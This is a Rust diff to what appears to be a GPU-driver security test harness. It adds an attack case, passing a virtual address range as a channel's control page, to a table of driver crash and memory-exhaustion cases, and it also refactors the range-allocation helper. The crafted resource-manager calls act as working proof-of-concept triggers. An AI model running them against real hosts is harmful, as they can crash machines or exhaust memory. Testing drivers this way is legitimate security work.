@@ -28,6 +28,8 @@ attacks! {
         Passes, Gpu, encoder_session;
     "host crash: peer memory registered for itself (REGISTER_VA_SPACE)": "third_party_p2p.c:CliAddThirdPartyP2PVASpace",
         Passes, Gpu, for_itself;
+    "a control page in a range of addresses": "kernel_channel_gv100.c:kchannelCreateUserdMemDesc_GV100",
+        Passes, Gpu, control_page_of_range;
     "host memory by registrations without end (REGISTER_VA_SPACE)": "third_party_p2p.c:CliAddThirdPartyP2PVASpace",
         Passes, Told, registrations;
     "host memory by one queue (NV_MEMORY_MAPPER)": "mem_mapper.c:memmapperConstruct_IMPL",
@@ -53,16 +55,30 @@ fn range(a: &Attacker, handle: u32) -> Verdict {
     a.prepare("a range of addresses", made)
 }
 
-/// Page tables for 16 TiB are 32 GiB. The range has 2 MiB, and so has the memory.
-fn pool_of_tables(a: &Attacker) -> Verdict {
+/// The driver tells the GPU an address of the range, as if it were a place in memory.
+fn control_page_of_range(a: &Attacker) -> Verdict {
     const RANGE: u32 = OWN + 4;
-    a.memory(OWN, 2 * MIB)?;
+    addresses(a, RANGE)?;
+    let mut params = [0; 368];
+    put_u32(&mut params, 32, RANGE);
+    a.alloc(a.group()?, OWN + 1, rm::CHANNEL, &mut params)
+}
+
+/// A range of 2 MiB with its page tables (NV50_MEMORY_VIRTUAL).
+fn addresses(a: &Attacker, handle: u32) -> Verdict {
     let mut params = rm::memory_params(a.client.handle, 2 * MIB);
     // NVOS32_ALLOC_FLAGS_VIRTUAL.
     put_u32(&mut params, 8, 0x8_0000);
     put_u32(&mut params, 24, 0);
-    let made = a.alloc(rm::DEVICE_HANDLE, RANGE, 0x50a0, &mut params);
-    a.prepare("a range of addresses", made)?;
+    let made = a.alloc(rm::DEVICE_HANDLE, handle, 0x50a0, &mut params);
+    a.prepare("a range of addresses", made)
+}
+
+/// Page tables for 16 TiB are 32 GiB. The range has 2 MiB, and so has the memory.
+fn pool_of_tables(a: &Attacker) -> Verdict {
+    const RANGE: u32 = OWN + 4;
+    a.memory(OWN, 2 * MIB)?;
+    addresses(a, RANGE)?;
     a.map_dma((OWN, RANGE), 1 << 44, 0).map(drop)
 }
 
